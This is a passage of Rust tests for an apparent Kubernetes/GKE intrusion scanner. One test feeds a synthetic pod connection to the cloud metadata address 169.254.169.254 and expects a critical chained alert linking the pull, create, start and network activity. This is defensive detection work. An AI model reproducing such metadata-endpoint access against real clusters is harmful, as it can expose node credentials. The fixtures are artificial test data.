    for (uid, reason) in [("u-5", "Created"), ("u-6", "Started")] {
        let mut e = self::kubelet(11, uid, reason, &format!("{reason} container: sidecar"));
        e["involvedObject"]["fieldPath"] = json!("spec.containers{sidecar}");
        two.push(e);
    }
    let kubelet2 = d.jsonl("kubelet2.jsonl", &two);
    let run = scan(&[], &[&kubelet2, &flows]);
    assert_eq!(run.alerts, Vec::<String>::new(), "{}", run.stderr);
}

#[test]
fn a_flow_joined_to_a_gke_pod_address_belongs_to_the_pods_container() {
    let d = Dir::new();
    let events = d.jsonl("kubelet.jsonl", &kubelet_events());
    let mut status = gke_audit()[1].clone();
    status["insertId"] = json!("9f0e1d2c-0004");
    status["operation"]["id"] = json!("9f0e1d2c-0004");
    status["timestamp"] = json!(iso_ms(10_500));
    status["protoPayload"]["methodName"] = json!("io.k8s.core.v1.pods.status.patch");
    status["protoPayload"]["resourceName"] =
        json!(format!("core/v1/namespaces/default/pods/{POD}/status"));
    status["protoPayload"]["authenticationInfo"]["principalEmail"] =
        json!(format!("system:node:{NODE}"));
    status["protoPayload"]["request"] = json!({"@type":"k8s.io/Patch","status":{"podIP":"10.52.1.23","podIPs":[{"ip":"10.52.1.23"}]}});
    let gke = d.jsonl("gke.jsonl", &[status]);
    let conn = d.jsonl(
        "conn.log",
        &[json!({"ts": T0 as f64 + 41.5,"uid":"C1x2y3","id.orig_h":"10.52.1.23","id.orig_p":51514,
            "id.resp_h":"169.254.169.254","id.resp_p":80,"proto":"tcp","service":"http","duration":0.2,"conn_state":"SF"})],
    );
    let run = scan(&["--strict"], &[&events, &gke, &conn]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(
        run.alerts,
        vec![format!("an0691.chain critical host={NODE} id=- pod=default/{POD} c=worker image=docker.io/{IMAGE} [pull@kubelet.jsonl:1 create@kubelet.jsonl:3 start@kubelet.jsonl:4 activity@conn.log:1]")],
        "{}",
        run.stderr
    );
}
